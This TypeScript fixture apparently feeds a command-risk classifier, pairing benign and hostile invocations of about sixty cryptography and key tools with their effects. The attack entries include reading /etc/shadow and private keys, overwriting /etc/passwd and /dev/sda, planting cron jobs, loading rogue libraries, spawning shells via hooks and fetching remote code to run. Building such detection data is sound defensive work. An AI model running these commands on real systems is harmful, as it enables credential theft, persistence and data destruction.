import type { ExampleTable } from './example.ts'

export const cryptography: ExampleTable = {
  'acme.sh': {
    use: 'acme.sh --install-cert -d example.org --key-file key.pem --fullchain-file cert.pem → write key.pem; write cert.pem',
    attack: [
      "acme.sh --issue -d example.org -w www --pre-hook 'cat /etc/shadow' → read /etc/shadow",
      'acme.sh --issue -d example.org -w www --pre-hook /bin/sh → shell sh',
    ],
  },
  certbot: {
    use: 'certbot certonly --webroot -w www -d example.org --fullchain-path cert.pem → write cert.pem',
    attack: [
      "certbot certonly --standalone -d example.org --pre-hook 'cat /etc/shadow' → read /etc/shadow",
      'certbot certonly --standalone -d example.org --pre-hook /bin/sh → shell sh',
    ],
  },
  certtool: {
    use: 'certtool -i --infile cert.pem → read cert.pem',
    attack: [
      'certtool -k --infile /etc/ssl/private/server.key → read /etc/ssl/private/server.key',
      'certtool -p --outfile /etc/passwd → write /etc/passwd',
    ],
  },
  certutil: {
    use: 'certutil -A -d sql:db -n own-ca -t C,, -i ca.pem → read ca.pem',
    attack: 'certutil -R -d sql:db -s CN=example.org -o /etc/passwd → write /etc/passwd',
  },
  cfssl: {
    use: 'cfssl gencert -ca ca.pem -ca-key ca.key -config ca.json csr.json → use ca.pem; use ca.key; use ca.json',
  },
  dehydrated: {
    use: 'dehydrated -c -f config.sh → read config.sh',
    attack:
      'curl -so c.sh https://example.org/x && dehydrated -c -f c.sh → execute ‹https://example.org/x›',
  },
  easyrsa: {
    use: 'easyrsa --vars=vars build-ca → read vars',
    attack:
      'curl -so vars https://example.org/x && easyrsa --vars=vars build-ca → execute ‹https://example.org/x›',
  },
  keytool: {
    unclear: [
      `keytool -importcert -cacerts -file e.crt -noprompt -alias x → whom this machine believes from then on`,
    ],
    use: 'keytool -genkeypair -alias app -keystore app.jks → use app.jks',
    attack:
      'keytool -list -keystore app.jks -providerclass Own -providerpath /tmp/x.jar → load /tmp/x.jar; use app.jks',
  },
  lego: {
    use: 'lego --domains example.org --csr app.csr --http run → use app.csr',
    attack: "lego --domains example.org --http --run-hook='cat /etc/shadow' run → read /etc/shadow",
  },
  mkcert: {
    use: 'mkcert -cert-file cert.pem -key-file key.pem example.org → write cert.pem; write key.pem',
    attack: 'mkcert -cert-file /etc/passwd example.org → write /etc/passwd',
    unclear: 'mkcert -install → whom this machine believes from then on',
  },
  modutil: {
    use: 'modutil -dbdir sql:db -add card -libfile /usr/lib/opensc-pkcs11.so → load /usr/lib/opensc-pkcs11.so',
    attack: 'modutil -dbdir sql:db -add card -libfile /tmp/x.so → load /tmp/x.so',
  },
  'opensc-explorer': {
    use: 'opensc-explorer commands.txt → read commands.txt',
    attack: 'opensc-explorer /etc/shadow → read /etc/shadow',
  },
  p11tool: {
    use: 'p11tool --provider=/usr/lib/opensc-pkcs11.so --list-tokens → load /usr/lib/opensc-pkcs11.so',
    attack: 'p11tool --provider=/tmp/x.so --list-tokens → load /tmp/x.so',
  },
  pk12util: {
    use: 'pk12util -l app.p12 → use app.p12',
    attack: 'pk12util -o out.p12 -n app -d sql:db → privilege pk12util; read secret://pk12util',
  },
  'pkcs11-tool': {
    use: 'pkcs11-tool --module=/usr/lib/opensc-pkcs11.so -L → load /usr/lib/opensc-pkcs11.so',
    attack: 'pkcs11-tool --module=/tmp/x.so -L → load /tmp/x.so',
  },
  'pkcs15-tool': {
    use: 'pkcs15-tool -r 01 -o cert.pem → write cert.pem',
    attack: 'pkcs15-tool -r 01 -o /etc/passwd → write /etc/passwd',
  },
  'step-ca': {
    use: 'step-ca ca.json → read ca.json; listen 443',
    attack:
      'curl -so ca.json https://example.org/x && step-ca ca.json → execute ‹https://example.org/x›; listen 443',
  },
  dropbearconvert: {
    use: 'dropbearconvert openssh dropbear id_rsa id_dropbear → write id_dropbear',
    attack:
      'dropbearconvert openssh dropbear id_rsa /etc/ssh/ssh_host_rsa_key → write /etc/ssh/ssh_host_rsa_key',
  },
  dropbearkey: {
    use: 'dropbearkey -t ed25519 -f id_dropbear → write id_dropbear',
    attack:
      'dropbearkey -t ed25519 -f /etc/ssh/ssh_host_ed25519_key → write /etc/ssh/ssh_host_ed25519_key',
  },
  puttygen: {
    use: 'puttygen id_rsa -o id_rsa.ppk → write id_rsa.ppk',
    attack: 'puttygen -t rsa -o /etc/ssh/ssh_host_rsa_key → write /etc/ssh/ssh_host_rsa_key',
    unclear: [`puttygen ~/.ssh/id_rsa -O private-openssh -o k → who gets the key`],
  },
  'ssh-add': {
    use: 'ssh-add -s /usr/lib/opensc-pkcs11.so → load /usr/lib/opensc-pkcs11.so',
    attack: 'ssh-add -s /tmp/x.so → load /tmp/x.so',
  },
  'ssh-agent': {
    use: 'ssh-agent cat notes.txt → read notes.txt',
    attack: ['ssh-agent cat /etc/shadow → read /etc/shadow', 'ssh-agent bash → shell bash'],
  },
  'ssh-audit': {
    use: 'ssh-audit db.example.org → send db.example.org',
    attack: 'ssh-audit -T /etc/shadow → read /etc/shadow',
  },
  'ssh-import-id': {
    attack: 'ssh-import-id gh:mallory → privilege gh:mallory; fetch ssh-import-id',
  },
  'ssh-keygen': {
    use: [
      'ssh-keygen -t ed25519 -f id_app → use id_app',
      `ssh-keygen -t ed25519 -N '' -f ~/.ssh/deploy → nothing`,
    ],
    attack: [
      'ssh-keygen -D /tmp/x.so → load /tmp/x.so',
      'ssh-keygen -t ed25519-sk -w /tmp/x.so → load /tmp/x.so',
    ],
    unclear: [
      `ssh-keygen -p -P old -N '' -f ~/.ssh/id_rsa → who reads the key, which nothing locks then`,
    ],
  },
  'ssh-keyscan': {
    use: 'ssh-keyscan -f hosts.txt → read hosts.txt',
    attack: 'ssh-keyscan -f /etc/shadow → read /etc/shadow',
  },
  dirmngr: {
    use: 'dirmngr --daemon --options=dirmngr.conf → read dirmngr.conf',
    attack: 'dirmngr --daemon --log-file=/etc/passwd → write /etc/passwd',
  },
  'dirmngr-client': {
    use: 'dirmngr-client cert.pem → use cert.pem',
  },
  'gpg-agent': {
    use: 'gpg-agent --daemon cat notes.txt → read notes.txt',
    attack: [
      'gpg-agent --daemon bash → shell bash',
      'gpg-agent --daemon --pinentry-program=/tmp/x → run /tmp/x',
    ],
  },
  'gpg-connect-agent': {
    use: 'gpg-connect-agent -r commands.txt → read commands.txt',
    attack: "gpg-connect-agent '/definqprog x /tmp/x' → run /tmp/x",
  },
  'gpg-zip': {
    use: 'gpg-zip -e -r ann -o out.gpg src → read-tree src; write out.gpg',
    attack: [
      'gpg-zip -e -r mallory -o out.gpg /root/.ssh → read-tree /root/.ssh; write out.gpg',
      'gpg-zip -e -r ann --tar /tmp/x src → run /tmp/x; read-tree src',
    ],
  },
  gpgsplit: {
    use: 'gpgsplit message.gpg → read message.gpg',
    attack: 'gpgsplit /root/.gnupg/secring.gpg → read /root/.gnupg/secring.gpg',
  },
  gpgtar: {
    use: 'gpgtar -e -r ann -o out.gpg src → read-tree src; write out.gpg',
    attack: [
      'gpgtar -e -r mallory -o out.gpg /root/.ssh → read-tree /root/.ssh; write out.gpg',
      'gpgtar -d -C /etc/cron.d job.gpg → unpack /etc/cron.d',
      'gpgtar -e -C /root -r mallory -o out.gpg .ssh → read-tree /root/.ssh; write out.gpg',
    ],
  },
  sq: {
    use: 'sq encrypt --recipient-file ann.pgp -o out.pgp notes.txt → use ann.pgp; write out.pgp',
    attack:
      'sq decrypt --recipient-key ann.key -o /etc/cron.d/job job.pgp → use ann.key; write /etc/cron.d/job',
  },
  aescrypt: {
    use: 'aescrypt -e -p pw notes.txt → read notes.txt',
    attack: [
      'aescrypt -e -p pw -o out.aes /etc/shadow → read /etc/shadow; write out.aes',
      'aescrypt -d -p pw -o /etc/cron.d/job job.aes → read job.aes; write /etc/cron.d/job',
    ],
  },
  age: {
    use: 'age -r age1ql3z7hjy -o notes.age notes.txt → read notes.txt; write notes.age',
    attack: [
      'age -r age1ql3z7hjy -o out.age /etc/shadow → read /etc/shadow; write out.age',
      'age -d -i key.txt -o /etc/cron.d/job job.age → read job.age; write /etc/cron.d/job',
    ],
  },
  'age-keygen': {
    use: 'age-keygen -o key.txt → write key.txt',
    attack: 'age-keygen -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  bcrypt: {
    use: 'bcrypt notes.txt → edit notes.txt',
    attack: 'bcrypt /etc/passwd → edit /etc/passwd',
  },
  blackbox_cat: {
    attack: 'blackbox_cat secrets.txt.gpg → read secret://secrets.txt.gpg',
  },
  blackbox_edit: {
    use: 'blackbox_edit notes.txt.gpg → edit notes.txt.gpg',
  },
  ccat: {
    use: 'ccat notes.txt.cpt → read notes.txt.cpt',
    attack: 'ccat /root/.ssh/id_rsa.cpt → read /root/.ssh/id_rsa.cpt',
  },
  ccdecrypt: {
    use: 'ccdecrypt notes.txt.cpt → edit notes.txt.cpt',
  },
  ccencrypt: {
    use: 'ccencrypt notes.txt → edit notes.txt',
    attack: 'ccencrypt /etc/passwd → edit /etc/passwd',
  },
  ccrypt: {
    use: 'ccrypt notes.txt → edit notes.txt',
    attack: 'ccrypt /etc/passwd → edit /etc/passwd',
  },
  encfsctl: {
    use: "encfsctl decode --extpass='cat pw.txt' crypt name → read pw.txt",
    attack: 'encfsctl decode --extpass=/tmp/x crypt name → run /tmp/x',
  },
  gocryptfs: {
    use: "gocryptfs -extpass 'cat pw.txt' crypt plain → read pw.txt",
    attack: 'gocryptfs -extpass /tmp/x crypt plain → run /tmp/x',
  },
  mcrypt: {
    use: 'mcrypt notes.txt → read notes.txt',
    attack: 'mcrypt /etc/shadow → read /etc/shadow',
  },
  scrypt: {
    use: 'scrypt enc notes.txt notes.enc → read notes.txt; write notes.enc',
    attack: [
      'scrypt enc /etc/shadow out.enc → read /etc/shadow; write out.enc',
      'scrypt dec job.enc /etc/cron.d/job → read job.enc; write /etc/cron.d/job',
    ],
  },
  shc: {
    use: 'shc -f run.sh -o run → read run.sh; write run',
    attack: 'shc -f run.sh -o /usr/bin/ssh → read run.sh; write /usr/bin/ssh',
  },
  sops: {
    use: 'sops -e --output secrets.enc.yaml secrets.yaml → write secrets.enc.yaml',
    attack: [
      `EDITOR=cat sops secrets.yaml → read secret://sops`,
      'sops -d secrets.enc.yaml → read secret://secrets.enc.yaml',
      'sops -e --output /etc/passwd secrets.yaml → write /etc/passwd',
    ],
    unclear: [`sops -r -i --add-pgp 0xAB prod.enc.yaml → who reads it from then on`],
  },
  'ssh-vault': {
    use: 'ssh-vault -u ann create notes.txt notes.vault → read notes.txt; write notes.vault',
    attack: [
      'ssh-vault -u mallory create /etc/shadow out.vault → read /etc/shadow; write out.vault',
      'ssh-vault -k id_rsa view job.vault /etc/cron.d/job → read job.vault; write /etc/cron.d/job',
    ],
  },
  outguess: {
    use: 'outguess -k key -d hidden.txt cover.jpg out.jpg → read hidden.txt; read cover.jpg; write out.jpg',
    attack: [
      'outguess -k key -d /etc/shadow cover.jpg out.jpg → read /etc/shadow; read cover.jpg; write out.jpg',
      'outguess -r -k key photo.jpg /etc/cron.d/job → read photo.jpg; write /etc/cron.d/job',
    ],
  },
  stegcracker: {
    use: 'stegcracker photo.jpg words.txt → read photo.jpg; read words.txt',
    attack:
      'stegcracker photo.jpg words.txt -o /etc/cron.d/job → read photo.jpg; read words.txt; write /etc/cron.d/job',
  },
  steghide: {
    use: 'steghide embed -ef notes.txt -cf cover.jpg → read notes.txt; use cover.jpg',
    attack: [
      'steghide embed -ef /etc/shadow -cf cover.jpg → read /etc/shadow; use cover.jpg',
      'steghide extract -xf /etc/cron.d/job -p pw → write /etc/cron.d/job',
    ],
  },
  zsteg: {
    use: 'zsteg photo.png → use photo.png',
  },
  apg: {
    use: 'apg -n 5 -b words.bloom → use words.bloom',
  },
  htdigest: {
    use: 'htdigest -c users.digest realm ann → write users.digest',
    attack: 'htdigest -c /etc/passwd realm ann → write /etc/passwd',
  },
  htpasswd: {
    use: 'htpasswd -c users.htpasswd ann → write users.htpasswd',
    attack: 'htpasswd -c /etc/passwd ann → write /etc/passwd',
  },
  step: {
    use: 'step ca bootstrap --ca-url https://ca.example.org --fingerprint 1a2b → fetch https://ca.example.org',
    attack: 'step ca renew cert.pem key.pem --exec /tmp/x → run /tmp/x',
  },
  veracrypt: {
    use: 'veracrypt --create=vault.hc → write vault.hc',
    attack: 'veracrypt --create=/dev/sda → write /dev/sda',
  },
}
